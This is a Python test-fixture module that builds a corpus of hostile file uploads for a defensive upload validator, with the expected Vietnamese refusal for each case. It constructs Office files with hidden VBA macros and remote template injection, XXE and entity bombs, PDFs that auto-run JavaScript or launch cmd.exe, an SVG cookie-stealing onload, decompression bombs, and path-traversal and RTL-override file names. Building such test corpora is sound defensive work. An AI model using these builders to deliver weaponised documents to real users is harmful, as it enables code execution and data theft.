"""Hostile uploads, made by code: every file an attacker (or an unlucky phone) might send.

Each builder returns bytes. ``CORPUS`` lists the cases the upload path must handle, with what is
expected of each: refused with a Vietnamese message, or accepted (and then stored safely).
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass

from demo.files import pdf_bytes
from tests.models_registry.conftest import ole2_file

# --- Office Open XML ------------------------------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"


def real_docx() -> bytes:
    """A real Word document, as python-docx writes it."""
    import docx

    document = docx.Document()
    document.add_paragraph("Kế hoạch thực hiện mô hình “Hiến đất làm đường”.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def real_xlsx() -> bytes:
    """A real workbook, as openpyxl writes it."""
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["Hộ tham gia", 42])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def repack(
    package: bytes,
    *,
    add: dict[str, bytes] | None = None,
    content_types: str = "",
    relationships: dict[str, str] | None = None,
    replace: dict[str, tuple[str, str]] | None = None,
) -> bytes:
    """``package`` with parts added, lines added to ``[Content_Types].xml`` and to ``.rels``
    parts (created when missing), and text replaced inside parts."""
    add = dict(add or {})
    relationships = dict(relationships or {})
    replace = dict(replace or {})
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(package)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "[Content_Types].xml" and content_types:
                data = data.replace(b"</Types>", content_types.encode() + b"</Types>")
            if info.filename in relationships:
                extra = relationships.pop(info.filename).encode()
                data = data.replace(b"</Relationships>", extra + b"</Relationships>")
            if info.filename in replace:
                old, new = replace[info.filename]
                data = data.replace(old.encode(), new.encode())
            target.writestr(info.filename, data)
        for name, rels in relationships.items():
            target.writestr(
                name,
                f'<?xml version="1.0" encoding="UTF-8"?>'
                f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships">{rels}</Relationships>',
            )
        for name, data in add.items():
            target.writestr(name, data)
    return out.getvalue()


def relationship(rel_type: str, target: str, *, rid: str = "rIdX", external=False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{rel_type}" Target="{target}"{mode}/>'


def override(part: str, content_type: str) -> str:
    return f'<Override PartName="{part}" ContentType="{content_type}"/>'


VBA = b'\x00Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n Shell "calc"\r\nEnd Sub'
VBA_TYPE = "application/vnd.ms-office.vbaProject"
DOCX_RELS = "word/_rels/document.xml.rels"
XLSX_RELS = "xl/_rels/workbook.xml.rels"


def docx_vba_odd_case() -> bytes:
    return repack(real_docx(), add={"word/VBAPROJECT.BIN": VBA})


def docx_vba_renamed() -> bytes:
    """The VBA project under a harmless name, found through its content type and relationship."""
    return repack(
        real_docx(),
        add={"word/styles2.bin": VBA},
        content_types=override("/word/styles2.bin", VBA_TYPE),
        relationships={DOCX_RELS: relationship(f"{MS_REL}/vbaProject", "styles2.bin")},
    )


def docx_vba_relationship_only() -> bytes:
    return repack(
        real_docx(),
        add={"word/data.dat": VBA},
        relationships={DOCX_RELS: relationship(f"{MS_REL}/vbaProject", "data.dat")},
    )


def docx_vba_default_content_type() -> bytes:
    """A ``Default`` content type by extension: every ``.dat`` part is a VBA project."""
    return repack(
        real_docx(),
        add={"word/x.dat": VBA},
        content_types=f'<Default Extension="dat" ContentType="{VBA_TYPE}"/>',
    )


def docx_macro_enabled_main() -> bytes:
    """Content type only: the main part declared macro-enabled (a .docm renamed .docx)."""
    return repack(
        real_docx(),
        replace={
            "[Content_Types].xml": (
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    )


def docx_activex() -> bytes:
    return repack(
        real_docx(),
        add={"word/activeX/control1.xml": b"<ax:ocx xmlns:ax='x'/>", "word/c.bin": VBA},
        relationships={DOCX_RELS: relationship(f"{REL}/control", "activeX/control1.xml")},
    )


def docx_embedded_macro_workbook() -> bytes:
    return repack(
        real_docx(),
        add={"word/embeddings/Book1.xlsm": xlsx_vba_odd_case()},
        relationships={DOCX_RELS: relationship(f"{REL}/package", "embeddings/Book1.xlsm")},
    )


def docx_remote_template() -> bytes:
    """Template injection: Word fetches a remote (macro) template when the file opens."""
    return repack(
        real_docx(),
        relationships={
            "word/_rels/settings.xml.rels": relationship(
                f"{REL}/attachedTemplate", "http://example.org/t.dotm", external=True
            )
        },
    )


def docx_external_hyperlink() -> bytes:
    """An ordinary link to a web page: harmless, accepted."""
    return repack(
        real_docx(),
        relationships={
            DOCX_RELS: relationship(f"{REL}/hyperlink", "https://dangcongsan.vn/", external=True)
        },
    )


def docx_xxe_content_types() -> bytes:
    doctype = '<!DOCTYPE Types [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return repack(
        real_docx(),
        replace={"[Content_Types].xml": ("<Types ", f"{doctype}<Types ")},
    )


def docx_xxe_document() -> bytes:
    doctype = '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    return repack(
        real_docx(), replace={"word/document.xml": ("<w:document ", f"{doctype}<w:document ")}
    )


def docx_zip_bomb() -> bytes:
    """A real document carrying a part that inflates a thousandfold."""
    return repack(real_docx(), add={"word/media/padding.xml": b"\0" * (16 * 1024 * 1024)})


def xlsx_vba_odd_case() -> bytes:
    return repack(real_xlsx(), add={"xl/VbaProject.BIN": VBA})


def xlsx_vba_relationship_only() -> bytes:
    return repack(
        real_xlsx(),
        add={"xl/theme2.bin": VBA},
        relationships={XLSX_RELS: relationship(f"{MS_REL}/vbaProject", "theme2.bin")},
    )


def xlsx_macro_enabled_main() -> bytes:
    return repack(
        real_xlsx(),
        replace={
            "[Content_Types].xml": (
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
        },
    )


def xlsx_macro_sheet() -> bytes:
    """An Excel 4.0 macro sheet (XLM): macros without any VBA project."""
    return repack(
        real_xlsx(),
        add={"xl/macrosheets/sheet2.xml": b"<xm:macrosheet xmlns:xm='x'/>"},
        relationships={XLSX_RELS: relationship(f"{MS_REL}/xlMacrosheet", "macrosheets/sheet2.xml")},
    )


# --- PDF ------------------------------------------------------------------------------------

PAGE_TEXT = ["Quyet dinh cong nhan mo hinh"]


def pdf_with(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
    """A one-page PDF with entries added to its catalog (object 1) and page (object 3), and
    ``more`` objects numbered from 7 on."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R " + page_extra + b">>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 760 Td (Quyet dinh) Tj ET\n\nendstream",
        b"<< /Title (Quyet dinh) >>",
        *more,
    ]
    return _pdf(objects)


def _pdf(objects: list[bytes], *, trailer: bytes = b"/Root 1 0 R /Info 6 0 R") -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def pdf_object_stream(action: bytes) -> bytes:
    """``action`` (object 7) hidden in a Flate-compressed object stream (object 8), indexed by a
    cross-reference stream (object 9): nothing of it shows in the file's bytes."""
    base = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length 0 >>\nstream\n\nendstream",
        b"<< /Title (x) >>",
    ]
    header = b"7 0 "
    packed = zlib.compress(header + action)
    objstm = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header),
        len(packed),
    )
    objstm += packed + b"\nendstream"
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate([*base, None, objstm], start=1):
        if body is None:
            offsets.append(None)
            continue
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for offset in offsets:
        if offset is None:  # object 7, in the object stream 8 at index 0
            rows.append(struct.pack(">BIH", 2, 8, 0))
        else:
            rows.append(struct.pack(">BIH", 1, offset, 0))
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))
    table = zlib.compress(b"".join(rows))
    out += (
        b"10 0 obj\n<< /Type /XRef /Size 11 /W [1 4 2] /Root 1 0 R /Info 6 0 R "
        b"/Filter /FlateDecode /Length %d >>\nstream\n" % len(table)
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def pdf_encrypted() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes("Mật", PAGE_TEXT))))
    writer.encrypt("mat-khau", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

PDF_ACTIVE = {
    "open-action-js": pdf_with(b"/OpenAction " + JS),
    "hex-escaped-names": pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "js-in-object-stream": pdf_object_stream(JS),
    "launch-in-object-stream": pdf_object_stream(b"<< /S /Launch /F (cmd.exe) >>"),
    "page-additional-actions": pdf_with(page_extra=b"/AA << /O " + JS + b" >>"),
    "names-javascript": pdf_with(
        b"/Names << /JavaScript 7 0 R >>", b"", b"<< /Names [(a) " + JS + b"] >>"
    ),
    "launch": pdf_with(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
    "embedded-file": pdf_with(
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >>",
        b"",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    ),
    "rich-media": pdf_with(
        page_extra=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"
    ),
    "xfa-form": pdf_with(
        b"/AcroForm << /Fields [] /XFA 7 0 R >>", b"", b"<< /Length 0 >>\nstream\n\nendstream"
    ),
    "submit-form": pdf_with(b"/OpenAction << /S /SubmitForm /F (http://example.org/) >>"),
    "import-data": pdf_with(b"/OpenAction << /S /ImportData /F (data.fdf) >>"),
    "go-to-remote": pdf_with(
        b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) /D [0 /Fit] >>"
    ),
    "js-in-compressed-stream": pdf_with(
        b"/OpenAction << /S /JavaScript /JS 7 0 R >>",
        b"",
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(zlib.compress(b"app.alert(1)")), zlib.compress(b"app.alert(1)")),
    ),
}


def pdf_harmless_links() -> bytes:
    """A link to a web page and an opening view: no active content, accepted."""
    return pdf_with(
        b"/OpenAction [3 0 R /Fit] ",
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
        b"/A << /S /URI /URI (https://dangcongsan.vn/) >> >>]",
    )


# --- Images ---------------------------------------------------------------------------------


def jpeg_with_gps(orientation: int = 6) -> bytes:
    """A photo as a phone writes it: EXIF with the camera, the orientation and GPS position,
    an XMP packet with the position again, and a comment."""
    from PIL import Image

    image = Image.new("RGB", (64, 48), (40, 120, 60))
    exif = Image.Exif()
    exif[0x010F] = "Điện thoại"  # Make
    exif[0x0112] = orientation
    exif.get_ifd(0x8825).update(
        {1: "N", 2: (21.0, 1.0, 30.5), 3: "E", 4: (105.0, 51.0, 12.25), 6: 15.0}
    )
    buffer = io.BytesIO()
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
        b'22-rdf-syntax-ns#"><rdf:Description exif:GPSLatitude="21,1.5N" xmlns:exif="http://'
        b'ns.adobe.com/exif/1.0/"/></rdf:RDF></x:xmpmeta>'
    )
    image.save(buffer, "JPEG", quality=90, exif=exif.tobytes(), xmp=xmp, comment=b"21.0251N")
    return buffer.getvalue()


def png_with_gps() -> bytes:
    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    image = Image.new("RGB", (32, 24), (200, 30, 30))
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (21.0, 1.0, 30.5), 3: "E", 4: (105.0, 51.0, 1.0)})
    info = PngInfo()
    info.add_text("GPSLatitude", "21.0251")
    info.add_itxt("XML:com.adobe.xmp", '<x:xmpmeta exif:GPSLatitude="21,1.5N"/>')
    buffer = io.BytesIO()
    image.save(buffer, "PNG", exif=exif.tobytes(), pnginfo=info)
    return buffer.getvalue()


def png_huge_dimensions() -> bytes:
    """A decompression bomb: 50,000 × 50,000 pixels declared, a few bytes sent."""
    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 4096)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", data)
        + _chunk(b"IEND", b"")
    )


def jpeg_huge_dimensions() -> bytes:
    """The frame header of a small JPEG rewritten to declare 60,000 × 60,000 pixels."""
    photo = jpeg_with_gps()
    return re.sub(
        rb"(\xff\xc0..\x08)....",
        lambda m: m.group(1) + struct.pack(">HH", 60_000, 60_000),
        photo,
        count=1,
        flags=re.S,
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_plain() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (10, 20, 30)).save(buffer, "PNG")
    return buffer.getvalue()


# --- The corpus -----------------------------------------------------------------------------

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'
HTML = b"<!DOCTYPE html><html><body><script>fetch('/')</script></body></html>"


@dataclass(frozen=True)
class Case:
    id: str
    name: str
    content: bytes
    refused: str | None  # a fragment of the Vietnamese message, or None when accepted

    @property
    def accepted(self) -> bool:
        return self.refused is None


def corpus() -> list[Case]:
    photo = jpeg_with_gps()
    docx = real_docx()
    macro_doc = ole2_file("WordDocument", storages=("Macros",))
    fake = "không phải tệp"
    macro = "chứa macro"
    active = "chứa nội dung tự chạy"
    cases = [
        # Wrong extension for the content, renamed web pages and programs, polyglots.
        Case("svg-as-png", "anh.png", SVG, fake),
        Case("html-as-png", "anh.png", HTML, fake),
        Case("html-as-pdf", "ke-hoach.pdf", HTML, fake),
        Case("svg-extension", "logo.svg", SVG, "chỉ nhận"),
        Case("html-extension", "trang.html", HTML, "chỉ nhận"),
        Case("exe-as-jpg", "anh.jpg", b"MZ\x90\x00" + b"\0" * 64, fake),
        Case("docx-as-pdf", "quyet-dinh.pdf", docx, fake),
        Case("pdf-as-docx", "van-ban.docx", pdf_bytes("x", PAGE_TEXT), fake),
        Case("jpeg-zip-polyglot", "anh.jpg", photo + docx, None),  # the zip after EOI is cut
        Case("pdf-html-polyglot", "a.pdf", pdf_bytes("x", PAGE_TEXT) + HTML, None),
        Case("gif-as-png", "anh.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", fake),
        # Images: truncated, bombs, metadata.
        Case("truncated-jpeg", "anh.jpg", photo[: len(photo) // 2], "bị hỏng"),
        Case("jpeg-header-only", "anh.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 32, "bị hỏng"),
        Case("truncated-png", "anh.png", png_plain()[:-20], "bị hỏng"),
        Case("png-bad-crc", "anh.png", png_plain()[:40] + b"\0" + png_plain()[41:], "bị hỏng"),
        Case("png-bomb", "anh.png", png_huge_dimensions(), "quá lớn"),
        Case("jpeg-bomb", "anh.jpg", jpeg_huge_dimensions(), "quá lớn"),
        Case("jpeg-with-gps", "anh.jpg", photo, None),
        Case("png-with-gps", "anh.png", png_with_gps(), None),
        # Office files with macros, however they are hidden.
        Case("docx-vba-odd-case", "a.docx", docx_vba_odd_case(), macro),
        Case("docx-vba-renamed", "a.docx", docx_vba_renamed(), macro),
        Case("docx-vba-relationship-only", "a.docx", docx_vba_relationship_only(), macro),
        Case("docx-vba-default-type", "a.docx", docx_vba_default_content_type(), macro),
        Case("docx-macro-enabled-main", "a.docx", docx_macro_enabled_main(), macro),
        Case("docx-activex", "a.docx", docx_activex(), macro),
        Case("docx-embedded-xlsm", "a.docx", docx_embedded_macro_workbook(), macro),
        Case("docx-ole-object-macros", "a.docx", docx_ole_object_with_macros(macro_doc), macro),
        Case("xlsx-vba-odd-case", "a.xlsx", xlsx_vba_odd_case(), macro),
        Case("xlsx-vba-relationship-only", "a.xlsx", xlsx_vba_relationship_only(), macro),
        Case("xlsx-macro-enabled-main", "a.xlsx", xlsx_macro_enabled_main(), macro),
        Case("xlsx-macro-sheet", "a.xlsx", xlsx_macro_sheet(), macro),
        # Office files that fetch or expand things.
        Case("docx-remote-template", "a.docx", docx_remote_template(), "liên kết ngoài"),
        Case("docx-hyperlink", "a.docx", docx_external_hyperlink(), None),
        Case("docx-xxe-content-types", "a.docx", docx_xxe_content_types(), "khai báo XML"),
        Case("docx-entity-bomb", "a.docx", docx_xxe_document(), "khai báo XML"),
        Case("docx-zip-bomb", "a.docx", docx_zip_bomb(), "giải nén"),
        Case("real-docx", "a.docx", docx, None),
        Case("real-xlsx", "a.xlsx", real_xlsx(), None),
        # PDFs with active content, plain or obfuscated; one with a password.
        *(Case(f"pdf-{key}", "a.pdf", content, active) for key, content in PDF_ACTIVE.items()),
        Case("pdf-encrypted", "a.pdf", pdf_encrypted(), "mật khẩu"),
        Case("pdf-broken", "a.pdf", b"%PDF-1.7\n" + b"\0" * 64, "bị hỏng"),
        Case("pdf-links", "a.pdf", pdf_harmless_links(), None),
        # Names: path traversal, NUL, bidirectional overrides, very long names.
        Case("path-traversal", "../../etc/passwd.pdf", pdf_bytes("x", PAGE_TEXT), None),
        Case("windows-traversal", "..\\..\\boot.ini.pdf", pdf_bytes("x", PAGE_TEXT), None),
        Case("rtl-override", "anh\u202egpj.exe", photo, "chỉ nhận"),
        Case("rtl-override-hidden", "bao-cao\u202efdp.jpg", photo, None),
        Case("nul-in-name", "anh.jpg\0.exe", photo, "chỉ nhận"),
        Case("very-long-name", "a" * 400 + ".jpg", photo, None),
        Case("no-extension", "README", b"hello", "chỉ nhận"),
        Case("double-extension", "hoa-don.pdf.exe", b"MZ", "chỉ nhận"),
    ]
    return cases


def docx_ole_object_with_macros(ole2: bytes) -> bytes:
    """An old-style embedded object (a Word 97–2003 document with macros) stored under a
    harmless name outside the embeddings folder."""
    return repack(
        real_docx(),
        add={"word/media/image9.bin": ole2},
        relationships={DOCX_RELS: relationship(f"{REL}/oleObject", "media/image9.bin")},
    )
